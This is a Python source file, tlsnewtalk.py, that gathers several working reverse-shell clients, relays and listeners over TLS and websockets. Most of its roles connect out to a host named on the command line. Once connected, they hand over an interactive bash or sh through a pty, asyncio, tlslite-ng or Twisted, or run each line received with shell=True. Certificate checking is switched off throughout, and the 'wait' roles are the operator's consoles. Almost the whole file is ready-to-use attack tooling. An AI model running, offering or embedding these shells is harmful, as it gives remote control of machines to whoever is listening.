# SPDX-License-Identifier: LGPL-2.1-or-later
# ruff: noqa: PLC0415, N802, N815 - each role has its own library, with its own names
"""Relays, shells and those who wait for them, by Python: `tlsnewtalk.py ROLE WORD...`.

`front`, `local`: relays of asyncio; `pipe`: standard input and output over a websocket. Shells given away: `line`, a
process for each line; `kept`, one process, by asyncio; `lite`, by tlslite-ng; `web`, on a terminal, over a websocket;
`twisted`. `wait`, `webwait`: wait for one, and pass lines on, as consoles of such tools do.
"""

import asyncio
import os
import ssl
import subprocess
import sys


def trusting():
    """TLS without concern for certificates."""
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


def serving(pem):
    """TLS of a server."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    made.load_cert_chain(pem)
    return made


def url(host, port):
    """Return the address of a websocket."""
    return f"wss://{'[' + host + ']' if ':' in host else host}:{port}/"


async def copy(reader, writer):
    """Pass on what comes until the end."""
    try:
        while data := await reader.read(16_384):
            writer.write(data)
            await writer.drain()
    finally:
        writer.close()


async def relay(place, there, coming=None, going=None):
    """Relay from one port to another, TLS on either side."""

    async def caller(reader, writer):
        other, back = await asyncio.open_connection(*there, ssl=going)
        await asyncio.gather(copy(reader, back), copy(other, writer), return_exceptions=True)

    await (await asyncio.start_server(caller, *place, ssl=coming)).serve_forever()


async def keyboard():
    """Read standard input as a stream."""
    reader = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    return reader


def show(data):
    """Write to standard output at once."""
    os.write(1, data if isinstance(data, bytes) else data.encode())


async def pipe(host, port):
    """Pass standard input and output over a websocket."""
    import websockets

    async with websockets.connect(url(host, port), ssl=trusting(), subprotocols=["binary"], max_size=None) as web:
        typed = await keyboard()

        async def up():
            while data := await typed.read(16_384):
                await web.send(data)

        task = asyncio.ensure_future(up())
        async for data in web:
            show(data)
        task.cancel()


async def wait(host, port, pem):
    """Wait for a shell, and pass the lines on that are typed."""
    done = asyncio.Event()

    async def caller(reader, writer):
        show(f"[*] session from {writer.get_extra_info('peername')[0]}\n")
        typed = await keyboard()

        async def up():
            while line := await typed.readline():
                writer.write(line)
                await writer.drain()

        task = asyncio.ensure_future(up())
        while data := await reader.read(4096):
            show(data)
        task.cancel()
        done.set()

    async with await asyncio.start_server(caller, host, port, ssl=serving(pem)):
        await done.wait()


async def webwait(host, port, pem):
    """Wait for a shell over a websocket."""
    import websockets

    done = asyncio.Event()

    async def caller(web):
        typed = await keyboard()

        async def up():
            while line := await typed.readline():
                await web.send(line.decode())

        task = asyncio.ensure_future(up())
        async for data in web:
            show(data)
        task.cancel()
        done.set()

    async with websockets.serve(caller, host, port, ssl=serving(pem)):
        await done.wait()


async def web(host, port):
    """Give a shell on a terminal away over a websocket."""
    import pty

    import websockets

    async with websockets.connect(url(host, port), ssl=trusting(), max_size=None) as there:
        pid, terminal = pty.fork()
        if not pid:
            os.execvp("bash", ["bash", "-i"])
        loop, out = asyncio.get_running_loop(), asyncio.Queue()

        def ready():
            try:
                out.put_nowait(os.read(terminal, 4096))
            except OSError:
                loop.remove_reader(terminal)
                out.put_nowait(b"")

        loop.add_reader(terminal, ready)

        async def up():
            while data := await out.get():
                await there.send(data)
            await there.close()

        task = asyncio.ensure_future(up())
        async for data in there:
            os.write(terminal, data.encode() if isinstance(data, str) else data)
        task.cancel()


def run(line):
    """Run one line and return what it says."""
    if line.startswith("cd "):
        try:
            os.chdir(line[3:].strip())
        except OSError as error:
            return f"{error}\n"
        return ""
    done = subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, check=False)
    return done.stdout.decode(errors="replace")


def by_line(host, port):
    """Give a shell away that runs a process for each line and sends all it says, with where it is, at once."""
    import socket

    with trusting().wrap_socket(socket.create_connection((host, port)), server_hostname="lab.example") as there:
        there.sendall(f"{os.uname().nodename} {os.getcwd()}> ".encode())
        while data := there.recv(4096):
            line = data.decode().strip()
            if line == "exit":
                return
            there.sendall(f"{run(line)}{os.getcwd()}> ".encode())


def lite(host, port):
    """Do the same by tlslite-ng."""
    import socket

    from tlslite.api import TLSConnection

    there = TLSConnection(socket.create_connection((host, port)))
    there.handshakeClientCert()
    while data := there.read(min=1, max=4096):
        line = data.decode().strip()
        if line == "exit":
            break
        there.write((run(line) or "\n").encode())
    there.close()


async def kept(host, port):
    """Give away one shell that is kept."""
    reader, writer = await asyncio.open_connection(host, port, ssl=trusting(), server_hostname="lab.example")
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
    child = await asyncio.create_subprocess_exec("/bin/sh", **pipes)
    task = asyncio.ensure_future(copy(reader, child.stdin))
    while data := await child.stdout.read(1024):
        writer.write(data)
        await writer.drain()
    writer.close()
    task.cancel()


def by_twisted(host, port):
    """Give a kept shell away by Twisted."""
    from twisted.internet import protocol, reactor
    from twisted.internet import ssl as tls

    class Child(protocol.ProcessProtocol):
        def __init__(self, there):
            self.there = there

        def outReceived(self, data):
            self.there.transport.write(data)

        errReceived = outReceived

        def processEnded(self, _):
            reactor.stop()

    class There(protocol.Protocol):
        def connectionMade(self):
            self.child = Child(self)
            reactor.spawnProcess(self.child, "/bin/bash", ["bash", "-i"], env=os.environ)

        def dataReceived(self, data):
            self.child.transport.write(data)

        def connectionLost(self, _):
            self.child.transport.signalProcess("KILL")

    factory = protocol.ClientFactory.forProtocol(There)
    reactor.connectSSL(host, port, factory, tls.CertificateOptions())
    reactor.run()


if __name__ == "__main__":
    role, *words = sys.argv[1:]
    if role == "front":
        where, target = (words[0], int(words[1])), (words[2], int(words[3]))
        asyncio.run(relay(where, target, coming=serving(words[4])))
    elif role == "local":
        asyncio.run(relay(("127.0.0.1", int(words[0])), (words[1], int(words[2])), going=trusting()))
    elif role in ("line", "lite", "twisted"):
        {"line": by_line, "lite": lite, "twisted": by_twisted}[role](words[0], int(words[1]))
    else:
        asked = {"pipe": pipe, "wait": wait, "webwait": webwait, "web": web, "kept": kept}[role]
        asyncio.run(asked(words[0], int(words[1]), *words[2:]))
